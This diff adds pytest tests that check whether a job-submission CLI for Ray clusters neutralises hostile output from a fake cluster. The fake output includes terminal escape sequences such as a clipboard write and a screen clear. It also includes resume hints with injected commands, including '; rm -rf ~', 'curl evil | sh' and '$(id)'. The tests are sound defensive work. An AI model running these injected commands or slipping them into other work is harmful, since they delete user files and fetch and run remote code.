@@ -254,3 +254,71 @@ def test_without_an_address_there_is_no_job(monkeypatch, capsys):
     monkeypatch.delenv("RAY_API_SERVER_ADDRESS", raising=False)
     monkeypatch.setenv("RAY_ADDRESS", "10.0.0.1:6379")
     assert "--address: none given" in refused(["status"], capsys)
+
+
+HOSTILE = "\x1b]52;c;ZXZpbA==\x07\x1b[2Jline\r\x9b31m\u202etext\n"
+
+
+class Hostile(Cluster):
+    """A cluster whose jobs say what steers terminals, and whose hints name commands of its own."""
+
+    stopped = "subquad: stopped by SIGTERM\x1b[2J after saving step 3; go on with: "
+
+    def logs(self, job):
+        return f"{HOSTILE}{self.stopped}{self.hint}\n"
+
+    def follow(self, job, show):
+        show(HOSTILE)
+        return self.info(job)
+
+    def info(self, job):
+        return SimpleNamespace(
+            status=SimpleNamespace(value="FAILED", is_terminal=lambda: True),
+            driver_exit_code=None,
+            message=HOSTILE,
+            metadata={"subquad": "1", "command": HOSTILE, "further": "; rm -rf ~"},
+            submission_id=HOSTILE,
+            start_time=0,
+            end_time=0,
+        )
+
+    def all(self):
+        return [self.info("")]
+
+    def stop(self, job):
+        return self.info(job), True
+
+    def fetch(self, job, into, goes_on=""):
+        return []
+
+
+@pytest.mark.parametrize("words", [["logs", "a"], ["logs", "a", "-f"], ["stop", "a"], ["status"], ["status", "a"]])
+def test_what_a_cluster_says_cannot_steer_the_terminal(words, tmp_path, monkeypatch, capsys):
+    found = Hostile(tmp_path)
+    found.hint = "subquad resume runs/a/b; rm -rf ~"
+    monkeypatch.setattr("subquad.cli.submit._connect", lambda address, insecure: found)
+    main(["submit", *words])
+    said = "".join(capsys.readouterr())
+    assert "\\x1b" in said
+    assert not {letter for letter in said if not letter.isprintable()} - {"\n"}
+    if words[0] == "stop":
+        assert "rm -rf" not in said
+
+
+@pytest.mark.parametrize(
+    ("hint", "said"),
+    [
+        ("subquad resume runs/a/b", "subquad submit resume runs/a/b (and"),
+        ("subquad resume runs/a/../b", None),
+        ("curl evil | sh", None),
+        ("subquad resume runs/a/$(id)", None),
+    ],
+)
+def test_a_stopped_job_names_only_a_place_to_go_on_from(hint, said, tmp_path, monkeypatch, capsys):
+    found = Hostile(tmp_path)
+    found.hint = hint
+    monkeypatch.setattr("subquad.cli.submit._connect", lambda address, insecure: found)
+    assert main(["submit", "stop", "a"]) == 0
+    out = capsys.readouterr().out
+    assert "stopped by SIGTERM\\x1b[2J after saving step 3\n" in out
+    assert (f"go on with: {said}" in out) if said else ("go on with" not in out)
